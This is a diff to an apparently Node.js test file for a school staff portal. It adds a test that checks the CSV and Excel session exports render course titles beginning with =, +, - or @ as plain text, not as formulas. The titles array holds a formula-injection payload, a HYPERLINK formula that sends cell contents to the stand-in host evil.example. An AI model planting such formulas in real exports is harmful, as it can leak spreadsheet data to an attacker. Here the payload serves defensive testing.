@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict';
 import { after, before, describe, it } from 'node:test';
+import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import { Client, buildLearner, buildStaff, startTestApp, type TestApp } from '../../../test/app';
 import { seedCatalogue } from '../catalogue/catalogue.seed';
@@ -82,6 +83,38 @@ describe('staff home and scopes', () => {
     const sheet = workbook.worksheets[0];
     assert.equal(sheet.rowCount, listed.length + 1);
     assert.equal(sheet.getRow(1).getCell(1).value, 'Session');
+  });
+
+  it('exports neutralise formulas: a course title starting with =, +, - or @ is text in the CSV and in the workbook', async () => {
+    const titles = ['=HYPERLINK("https://evil.example/?"&A1,"Voir le dossier")', '+SUM(1,2)', '-2+3', '@SUM(1)'];
+    const { rows } = await t.database.pool.query<{ id: number; title: string; session: string }>(
+      `select distinct on (c.id) c.id, c.title, s.code as session from courses c join course_sessions s on s.course_id = c.id
+       join schools sc on sc.id = s.school_id where sc.code = 'E-05-01' order by c.id, s.code limit 4`,
+    );
+    assert.equal(rows.length, 4);
+    try {
+      for (const [i, row] of rows.entries()) await t.database.pool.query('update courses set title = $1 where id = $2', [titles[i], row.id]);
+      const browser = await staffWith('school_head', { schools: ['E-05-01'] });
+      const csv = await browser.get('/personnel/sessions.csv');
+      const records: string[][] = parse(csv.body, { bom: true });
+      const course = (session: string) => records.find((r) => r[0] === session)?.[1];
+      for (const [i, row] of rows.entries()) assert.equal(course(row.session), `'${titles[i]}`, titles[i]);
+      assert.ok(records.slice(1).every((r) => /^\d+$/.test(r[5])), 'numbers stay numbers');
+
+      const xlsx = await t.app.inject({ url: '/personnel/sessions.xlsx', headers: { cookie: [...browser.cookies].map(([k, v]) => `${k}=${v}`).join('; ') } });
+      const workbook = new ExcelJS.Workbook();
+      await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
+      const sheet = workbook.worksheets[0];
+      const cells = new Map<string, ExcelJS.Cell>();
+      sheet.eachRow((r) => cells.set(String(r.getCell(1).value), r.getCell(2)));
+      for (const [i, row] of rows.entries()) {
+        const cell = cells.get(row.session)!;
+        assert.equal(cell.type, ExcelJS.ValueType.String, `${titles[i]}: a text cell, not a formula`);
+        assert.equal(cell.value, titles[i]);
+      }
+    } finally {
+      for (const row of rows) await t.database.pool.query('update courses set title = $1 where id = $2', [row.title, row.id]);
+    }
   });
 
   it('learners get a 403, visitors the login page, for every staff page', async () => {
